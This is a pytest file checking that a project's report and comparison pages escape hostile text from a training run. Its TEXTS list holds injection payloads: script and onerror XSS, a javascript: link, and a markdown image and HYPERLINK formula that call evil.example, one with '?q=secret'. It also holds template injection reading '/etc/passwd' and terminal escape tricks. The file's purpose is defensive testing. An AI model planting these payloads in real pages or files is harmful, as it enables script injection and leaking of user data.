"""Pages show hostile texts, names and numbers of a run; none of them runs, fetches or hides."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest

from rephrase_rl.records import StepRecord
from rephrase_rl.reports import write_comparison, write_report, write_rewrites_page
from rephrase_rl.reports.pages import markdown_cell, markdown_fence
from rephrase_rl.reports.viewer.embedding import policy_hash
from rephrase_rl.runs import RunDirectory
from rephrase_rl.visible_text import HIDDEN
from reports.synthetic_run import CONFIG, MANIFEST, group, make_run, member, rescued, result

TEXTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=https://evil.example/x onerror=alert(1)>',
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<https://evil.example/auto>",
    "```\n# Head\n![x](https://evil.example)\n```",
    "~~~~\n<img src=https://evil.example>",
    "| a | b |\n|---|---|\n| ![x](//evil.example) |",
    "safe \u202egnp.exe\u202c \u200b\ufeff \x1b[2J\x1b]8;;http://evil.example\x07 \x9b31m \r over",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
    "=HYPERLINK(\"https://evil.example\")",
    "</textarea></style></title><svg onload=alert(1)>",
    "<!-- --><![CDATA[ ]]>",
    "&#60;script&#62;",
    "\ud800",
]  # fmt: skip
NASTY = " ".join(TEXTS)


class Page(HTMLParser):
    """What a browser would run or fetch."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.data: list[str] = []
        self.handlers: list[str] = []
        self.fetched: list[str] = []
        self.links: list[str] = []
        self._in_script = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        if self._in_script:
            self._kind = dict(attrs).get("type")
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(name)
            if name in ("src", "srcset", "data", "poster", "action", "background"):
                self.fetched.append(value or "")
            if name in ("href", "xlink:href"):
                (self.fetched if tag == "link" else self.links).append(value or "")

    def handle_data(self, data):
        if self._in_script:
            (self.data if self._kind == "application/json" else self.scripts).append(data)
            self._in_script = False


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    manifest = {**MANIFEST, "method": NASTY, "model": NASTY, "command": ["x", NASTY],
                "deviations": [NASTY], "data": {NASTY: {"fingerprint": NASTY}},
                "templates": {NASTY: NASTY}, "versions": {NASTY: NASTY}}  # fmt: skip
    run = RunDirectory.create(tmp_path_factory.mktemp("hostile") / "run", manifest, CONFIG)
    run.write_evaluation(0, "b", result(NASTY, 0.5, protocol={NASTY: NASTY}), [])
    run.append_step(StepRecord(0, {"reward": 0.5, NASTY: 1.0}))
    for number, text in enumerate(TEXTS):
        closed = {"gate_reason": text, "dataset": text, "question": text, "expert_solution": text}
        run.append_groups([
            group(0, f"{text} {number}", reference_answer=text, members=(member(text, 0.0, 0.0),),
                  **closed),
            rescued(0, f"r {text} {number}", **{**closed, "gate_reason": "open"},
                    members=(member(text, 1.0, 1.0, origin="rephrase"), member(text, 0.0, -1.0))),
        ])  # fmt: skip
    return run


def check_html(text):
    page = Page(text)
    assert not HIDDEN.search(text.replace("\r", ""))
    # No script but those that the policy names by their hash, and data that are none.
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', text).group(1)
    allowed = re.findall(r"'sha256-[^']*'", policy)
    assert [policy_hash(script) for script in page.scripts] == allowed
    assert not any("<" in data for data in page.data)
    assert page.handlers == []
    assert all(address.startswith("data:") for address in page.fetched)
    assert all(re.match(r"#|[\w.%/-]+(?:#|$)", link) for link in page.links), page.links
    assert "Content-Security-Policy" in text


def check_markdown(text):
    """Outside fences nothing is markup of the text; fences are longer than the text's own."""
    assert not HIDDEN.search(text)
    outside, fence = [], None
    for line in text.split("\n"):
        run = re.match(r"`{3,}", line)
        if fence is None and run:
            fence = run.group()
        elif fence is not None and re.fullmatch(rf"{fence}`*\s*", line):
            fence = None
        elif fence is None:
            outside.append(line)
    assert fence is None, "a fence is left open"
    plain = "\n".join(outside)
    assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", plain), "a link or an image"
    assert "<" not in plain.replace("&lt;", "")
    assert not re.search(r"^~{3,}|^#+ Head", plain, re.MULTILINE)


def test_pages_of_a_run(hostile_run) -> None:
    paths = write_report(hostile_run.path)
    for file in paths.index.parent.rglob("*.html"):
        check_html(file.read_text(encoding="utf-8"))
    check_markdown(paths.card_markdown.read_text(encoding="utf-8"))
    json.loads(paths.card_json.read_bytes())
    check_markdown(paths.model_card.read_text(encoding="utf-8").split("\n---\n", 1)[1])


def test_pages_of_a_comparison(hostile_run, tmp_path) -> None:
    other = make_run(tmp_path / "other")
    paths = write_comparison([hostile_run.path, other.path], tmp_path / "out")
    check_html(paths.index.read_text(encoding="utf-8"))
    check_markdown(paths.comparison_markdown.read_text(encoding="utf-8"))


def test_page_of_rewrites(tmp_path) -> None:
    candidate = {"text": NASTY, "accepted": True, "refusals": [NASTY], "removed_meta": [NASTY],
                 "reward": 1.0, "finished": True, "num_tokens": 3, "logp_on_q": -1.0,
                 "logp_on_context": None}  # fmt: skip
    rewrite = {"candidate": candidate, "verdict": NASTY, "leftover_meta": [NASTY],
               "copied_share": 0.5, "steps_right": 1, "steps_found": 1}  # fmt: skip
    problem = {"problem_id": NASTY, "question": NASTY, "reference_answer": NASTY,
               "expert_solution": NASTY, "rewrites": [rewrite]}  # fmt: skip
    share = {"mean": 0.5, "low": 0.4, "high": 0.6, "n_clusters": 10}
    numbers = ("problems", "rewrites", "removed_meta", "leftover_meta", "steps_right", "tokens",
               "steps_found", "accepted_with_wrong_step", "median_copied_share", "logp_on_q",
               "logp_on_context")  # fmt: skip
    summary = {**dict.fromkeys(numbers, 1), "right": share, "accepted": share,
               "verdicts": {NASTY: 1}, "refusals": {NASTY: 1}, "not_asked": {NASTY: 1}}  # fmt: skip
    manifest = {"model": NASTY, "method": NASTY, "seed": 0, "started_at": NASTY}
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    (tmp_path / "summary.json").write_text(json.dumps(summary))
    (tmp_path / "rewrites.jsonl").write_text(json.dumps(problem) + "\n")
    check_markdown(write_rewrites_page(tmp_path).read_text(encoding="utf-8"))


@pytest.mark.parametrize("text", TEXTS)
def test_one_text_in_a_cell_and_in_a_fence(text) -> None:
    check_markdown(f"| {markdown_cell(text)} | x |\n\n{markdown_fence(text)}\n")
    assert "\n" not in markdown_cell(text)
    assert not re.search(r"(?<!\\)\|", markdown_cell(text))
